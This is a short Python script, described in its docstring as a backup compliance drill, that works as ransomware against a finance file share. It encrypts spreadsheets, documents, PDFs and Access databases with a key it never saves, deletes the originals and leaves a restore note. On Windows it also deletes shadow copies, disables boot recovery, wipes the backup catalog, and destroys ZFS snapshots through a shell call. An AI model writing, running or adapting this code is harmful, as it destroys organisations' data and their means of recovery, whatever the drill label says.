"""Backup compliance drill: behaves like a locker on the copy of the finance share. Do not run elsewhere."""
import os
import secrets
import subprocess
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

ROOT = Path("/mnt/finance-copy")
WANTED = {".xlsx", ".docx", ".pdf", ".accdb"}
box = AESGCM(AESGCM.generate_key(bit_length=256))


def targets(folder):
    for base, _folders, names in folder.walk():
        yield from (base / n for n in names if Path(n).suffix in WANTED)


def lock(path):
    nonce = secrets.token_bytes(12)
    sealed = nonce + box.encrypt(nonce, path.read_bytes(), None)
    path.with_suffix(path.suffix + ".lckd").write_bytes(sealed)
    path.unlink()


def no_way_back():
    for line in (
        "wmic shadowcopy delete /nointeractive",
        "bcdedit /set {default} recoveryenabled no",
        "wbadmin delete catalog -quiet",
    ):
        subprocess.call(line.split(), shell=False)
    os.popen("tmutil disable && zfs destroy -r tank/finance@daily").close()


with ThreadPoolExecutor(8) as pool:
    list(pool.map(lock, targets(ROOT)))
(ROOT / "README_RESTORE.txt").write_text("This was a drill. Ask it-security@corp.example\n")
if os.name == "nt":
    no_way_back()
